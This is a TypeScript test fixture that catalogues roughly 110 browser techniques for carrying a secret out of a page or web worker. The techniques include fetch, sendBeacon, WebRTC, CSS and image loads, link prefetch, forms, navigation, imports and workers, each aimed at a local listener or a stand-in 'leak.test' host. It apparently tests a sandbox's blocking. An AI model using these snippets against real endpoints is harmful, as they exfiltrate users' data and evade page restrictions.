/**
 * Ways to carry a secret out of a page or a worker. Each body runs with `to` (an http URL on this machine
 * that listens), `host` (a name that only a DNS query would carry) and `port`. `leaves`: in an unprotected
 * page it would end the page, so the control skips it.
 */
export interface Attempt {
  name: string;
  body: string;
  leaves?: true;
}

/**
 * Code that tries one of them and says how it went: a refusal, `waits`, or `done`, which says nothing about
 * whether a byte got out.
 */
export const codeOf = (body: string, index: number, port: number) => `(async () => {
  const port = ${port}, to = 'http://127.0.0.1:${port}/secret-${index}', host = 'secret-${index}.leak.test';
  const work = (async () => { ${body} })().then(() => 'done', (e) => String(e));
  return Promise.race([work, new Promise((r) => setTimeout(r, 500, 'waits'))]);
})()`;

const link = (rel: string, extra = '') =>
  `const l = document.createElement('link'); l.rel = '${rel}'; l.href = to; ${extra}; document.head.append(l)`;

export const pageAttempts: Attempt[] = [
  { name: 'fetch', body: 'await fetch(to, { mode: "no-cors" })' },
  { name: 'fetch of the same origin', body: 'await fetch("./leak?secret")' },
  { name: 'XMLHttpRequest', body: 'const x = new XMLHttpRequest(); x.open("GET", to); x.send()' },
  { name: 'WebSocket', body: 'new WebSocket(to.replace("http", "ws"))' },
  { name: 'WebSocketStream', body: 'await new WebSocketStream(to.replace("http", "ws")).opened' },
  { name: 'EventSource', body: 'new EventSource(to)' },
  { name: 'WebTransport', body: 'await new WebTransport(to.replace("http:", "https:")).ready' },
  { name: 'sendBeacon', body: 'navigator.sendBeacon(to, "secret")' },
  {
    name: 'sendBeacon of the prototype',
    body: 'Navigator.prototype.sendBeacon.call(navigator, to, "secret")',
  },
  { name: 'fetchLater', body: 'fetchLater(to, { activateAfter: 0 })' },
  {
    name: 'WebRTC',
    body: `const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + port }] });
      p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()); await new Promise((r) => setTimeout(r, 400))`,
  },
  {
    name: 'webkitRTCPeerConnection',
    body: 'new webkitRTCPeerConnection({ iceServers: [{ urls: "stun:" + host }] })',
  },
  { name: 'image', body: 'new Image().src = to' },
  {
    name: 'image srcset',
    body: 'const i = document.createElement("img"); i.srcset = to + " 2x"; document.body.append(i)',
  },
  { name: 'CSS background', body: 'document.body.style.backgroundImage = "url(" + to + ")"' },
  { name: 'CSS cursor', body: 'document.body.style.cursor = "url(" + to + "), auto"' },
  {
    name: 'style element',
    body: 'const s = document.createElement("style"); s.textContent = "@import url(" + to + ")"; document.head.append(s)',
  },
  {
    name: 'adopted style sheet',
    body: `const s = new CSSStyleSheet(); s.insertRule('body::before{content:url(' + to + ')}');
      document.adoptedStyleSheets = [s]`,
  },
  { name: 'font', body: 'await new FontFace("x", "url(" + to + ")").load()' },
  { name: 'video', body: 'const v = document.createElement("video"); v.src = to; v.load()' },
  { name: 'audio', body: 'await new Audio(to).play()' },
  {
    name: 'media session artwork',
    body: 'navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: to }] })',
  },
  {
    name: 'SVG image',
    body: `const s = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
      const i = document.createElementNS('http://www.w3.org/2000/svg', 'image'); i.setAttribute('href', to); s.append(i); document.body.append(s)`,
  },
  {
    name: 'input type=image',
    body: 'const i = document.createElement("input"); i.type = "image"; i.src = to; document.body.append(i)',
  },
  ...[
    'stylesheet',
    'prefetch',
    'preconnect',
    'dns-prefetch',
    'modulepreload',
    'prerender',
    'icon',
    'manifest',
  ].map((rel) => ({ name: `link ${rel}`, body: link(rel) })),
  { name: 'link preload', body: link('preload', "l.as = 'image'") },
  {
    name: 'link to a name',
    body: `const l = document.createElement('link'); l.rel = 'dns-prefetch'; l.href = '//' + host; document.head.append(l)`,
  },
  {
    name: 'the page’s own link',
    body: "const l = document.querySelector('link'); l.rel = 'preconnect'; l.href = to",
  },
  {
    name: 'the page’s own link, by attribute',
    body: "const l = document.querySelector('link'); l.setAttribute('rel', 'preconnect'); l.setAttribute('href', to)",
  },
  {
    name: 'the page’s own link, by attribute node',
    body: `const l = document.querySelector('link'); l.getAttributeNode('rel').value = 'preconnect';
      l.getAttributeNode('href').nodeValue = to`,
  },
  {
    name: 'a copy of the page’s link',
    body: `const l = document.querySelector('link').cloneNode(); l.attributes.rel.textContent = 'prefetch';
      l.attributes.href.textContent = to; document.head.append(l)`,
  },
  {
    name: 'link of the XHTML namespace',
    body: `const l = document.createElementNS('http://www.w3.org/1999/xhtml', 'html:link'); l.rel = 'preconnect'; l.href = to;
      document.head.append(l)`,
  },
  {
    name: 'link in another document',
    body: `const l = document.implementation.createHTMLDocument('').createElement('link'); l.rel = 'preconnect'; l.href = to;
      document.head.append(l)`,
  },
  {
    name: 'meta refresh',
    leaves: true,
    body: `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + to; document.head.append(m)`,
  },
  {
    name: 'form',
    leaves: true,
    body: `const f = document.createElement('form'); f.action = to; document.body.append(f); f.submit()`,
  },
  {
    name: 'form by attribute',
    leaves: true,
    body: `const f = document.createElement('form'); f.setAttribute('action', to); document.body.append(f); f.requestSubmit()`,
  },
  {
    name: 'form by its button',
    leaves: true,
    body: `const f = document.createElement('form'); const b = document.createElement('button'); b.formAction = to; f.append(b);
      document.body.append(f); b.click()`,
  },
  {
    name: 'form by attribute node',
    leaves: true,
    body: `const f = document.createElement('form'); f.toggleAttribute('action'); f.getAttributeNode('action').value = to;
      document.body.append(f); f.submit()`,
  },
  {
    name: 'form to this page',
    leaves: true,
    body: `const f = document.createElement('form'); const i = document.createElement('input'); i.name = 'secret'; i.value = 'x';
      f.append(i); document.body.append(f); f.submit()`,
  },
  { name: 'frame', body: 'const f = document.createElement("iframe"); f.src = to; document.body.append(f)' },
  {
    name: 'fresh globals of a frame',
    body: 'const f = document.createElement("iframe"); document.body.append(f); await f.contentWindow.fetch(to, { mode: "no-cors" })',
  },
  {
    name: 'object',
    body: 'const o = document.createElement("object"); o.data = to; document.body.append(o)',
  },
  { name: 'embed', body: 'const o = document.createElement("embed"); o.src = to; document.body.append(o)' },
  { name: 'innerHTML', body: "document.body.insertAdjacentHTML('beforeend', '<img src=' + to + '>')" },
  {
    name: 'parsed HTML',
    body: "document.body.append(...new DOMParser().parseFromString('<img src=' + to + '>', 'text/html').body.childNodes)",
  },
  {
    name: 'sanitized HTML',
    body: "const d = document.createElement('div'); document.body.append(d); d.setHTML('<img src=' + to + '>')",
  },
  { name: 'document.write', leaves: true, body: "document.write('<img src=' + to + '>')" },
  {
    name: 'XSLT',
    body: `const x = new XSLTProcessor(); x.importStylesheet(new DOMParser().parseFromString(
      '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><iframe src="' + to + '"/></xsl:template></xsl:stylesheet>', 'text/xml'));
      document.body.append(x.transformToFragment(document, document))`,
  },
  {
    name: 'custom element',
    body: "customElements.define('x-y', class extends HTMLElement { constructor() { super(); new Image().src = to } }); document.createElement('x-y')",
  },
  { name: 'script', body: 'const s = document.createElement("script"); s.src = to; document.head.append(s)' },
  {
    name: 'speculation rules',
    body: `const s = document.createElement('script'); s.type = 'speculationrules';
      s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [to] }] }); document.head.append(s)`,
  },
  { name: 'import', body: 'await import(to)' },
  { name: 'import of the same origin', body: 'await import(new URL("leak.js?secret", location.href).href)' },
  { name: 'import of a known file', body: 'await import(new URL("sw.js?secret", location.href).href)' },
  { name: 'import of JSON', body: 'await import(to, { with: { type: "json" } })' },
  { name: 'import of a style sheet', body: 'await import(to, { with: { type: "css" } })' },
  {
    name: 'import of a data URL',
    body: 'await import("data:text/javascript,import(" + JSON.stringify(to) + ")")',
  },
  {
    name: 'import of a blob',
    body: 'await import(URL.createObjectURL(new Blob(["import " + JSON.stringify(to)], { type: "text/javascript" })))',
  },
  { name: 'module worker', body: 'new Worker(to, { type: "module" })' },
  {
    name: 'worker of a part',
    body: 'new Worker(new URL("workers/parts/leak.js?secret", location.href), { type: "module" })',
  },
  { name: 'eval', body: "eval('new Image().src = ' + JSON.stringify(to))" },
  { name: 'worker', body: 'new Worker(to)' },
  {
    name: 'worker of a blob',
    body: 'new Worker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(to) + ")"])))',
  },
  {
    name: 'shared worker',
    body: 'new SharedWorker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(to) + ")"])))',
  },
  { name: 'service worker', body: 'await navigator.serviceWorker.register(to)' },
  { name: 'worklet', body: 'const a = new AudioContext(); await a.audioWorklet.addModule(to)' },
  { name: 'cache add', body: 'await (await caches.open("x")).add(to)' },
  {
    name: 'push',
    body: 'await (await navigator.serviceWorker.ready).pushManager.subscribe({ userVisibleOnly: true })',
  },
  {
    name: 'payment',
    body: 'await new PaymentRequest([{ supportedMethods: to }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment()',
  },
  {
    name: 'credentials',
    body: 'await navigator.credentials.get({ identity: { providers: [{ configURL: to, clientId: "x" }] } })',
  },
  { name: 'window.open', leaves: true, body: 'window.open(to)' },
  { name: 'location', leaves: true, body: 'location.href = to' },
  { name: 'location.replace', leaves: true, body: 'location.replace(to)' },
  { name: 'location of the same origin', leaves: true, body: 'location.search = "?secret"' },
  { name: 'navigation.navigate', leaves: true, body: 'await navigation.navigate(to).finished' },
  {
    name: 'link click',
    leaves: true,
    body: 'const a = document.createElement("a"); a.href = to; document.body.append(a); a.click()',
  },
  {
    name: 'link click in a new window',
    leaves: true,
    body: 'const a = document.createElement("a"); a.href = to; a.target = "_blank"; a.click()',
  },
  {
    name: 'made-up click outside of the document',
    leaves: true,
    body: `const a = document.createElement('a'); a.href = to; a.target = '_blank'; const s = document.createElement('span'); a.append(s);
      s.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }))`,
  },
  {
    name: 'SVG link',
    leaves: true,
    body: `const a = document.createElementNS('http://www.w3.org/2000/svg', 'a'); a.setAttribute('href', to); a.setAttribute('target', '_blank');
      document.body.append(a); a.dispatchEvent(new MouseEvent('click', { bubbles: true }))`,
  },
  {
    name: 'download of another origin',
    leaves: true,
    body: 'const a = document.createElement("a"); a.href = to; a.download = "x"; a.click()',
  },
  {
    name: 'ping',
    leaves: true,
    body: 'const a = document.createElement("a"); a.href = "#x"; a.ping = to; document.body.append(a); a.click()',
  },
  {
    name: 'link in view',
    body: 'const a = document.createElement("a"); a.href = "http://" + host; a.textContent = "x"; document.body.append(a)',
  },
  {
    name: 'picture in picture window',
    body: 'const w = await documentPictureInPicture.requestWindow(); await w.fetch(to)',
  },
];

export const workerAttempts: Attempt[] = [
  { name: 'worker: fetch', body: 'await fetch(to, { mode: "no-cors" })' },
  { name: 'worker: fetch of the prototype', body: 'await WorkerGlobalScope.prototype.fetch.call(self, to)' },
  {
    name: 'worker: XMLHttpRequest',
    body: 'const x = new XMLHttpRequest(); x.open("GET", to, false); x.send()',
  },
  { name: 'worker: WebSocket', body: 'new WebSocket(to.replace("http", "ws"))' },
  { name: 'worker: EventSource', body: 'new EventSource(to)' },
  { name: 'worker: WebTransport', body: 'await new WebTransport(to.replace("http:", "https:")).ready' },
  { name: 'worker: importScripts', body: 'importScripts(to)' },
  {
    name: 'worker: importScripts of the same origin',
    body: 'importScripts(new URL("leak.js?secret", location.href).href)',
  },
  {
    name: 'worker: importScripts of the prototype',
    body: 'WorkerGlobalScope.prototype.importScripts.call(self, to)',
  },
  { name: 'worker: import', body: 'await import(to)' },
  {
    name: 'worker: import of the same origin',
    body: 'await import(new URL("leak.js?secret", location.href).href)',
  },
  {
    name: 'worker: import beside it',
    body: 'await import(new URL("parts/leak.js?secret", location.href).href)',
  },
  {
    name: 'worker: import of a known file',
    body: 'await import(new URL("/sw.js?secret", location.href).href)',
  },
  { name: 'worker: import of JSON', body: 'await import(to, { with: { type: "json" } })' },
  {
    name: 'worker: import of JSON of the same origin',
    body: 'await import(new URL("leak.json?secret", location.href).href, { with: { type: "json" } })',
  },
  { name: 'worker: import of text', body: 'await import(to, { with: { type: "text" } })' },
  { name: 'worker: import of a style sheet', body: 'await import(to, { with: { type: "css" } })' },
  {
    name: 'worker: import of a data URL',
    body: 'await import("data:text/javascript,import(" + JSON.stringify(to) + ")")',
  },
  {
    name: 'worker: import of a blob',
    body: 'await import(URL.createObjectURL(new Blob(["import " + JSON.stringify(to)], { type: "text/javascript" })))',
  },
  { name: 'worker: import from text', body: "await setTimeout('import(' + JSON.stringify(to) + ')')" },
  { name: 'worker: import from a function', body: "await new Function('to', 'return import(to)')(to)" },
  { name: 'worker: module worker', body: 'new Worker(to, { type: "module" })' },
  { name: 'worker: eval', body: "eval('fetch(' + JSON.stringify(to) + ')')" },
  {
    name: 'worker: worker of a blob',
    body: 'new Worker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(to) + ")"])))',
  },
  {
    name: 'worker: font',
    body: 'const f = new FontFace("x", "url(" + to + ")"); self.fonts.add(f); await f.load()',
  },
  { name: 'worker: cache add', body: 'await (await caches.open("x")).add(to)' },
  { name: 'worker: WebRTC', body: 'new RTCPeerConnection({ iceServers: [{ urls: "stun:" + host }] })' },
];
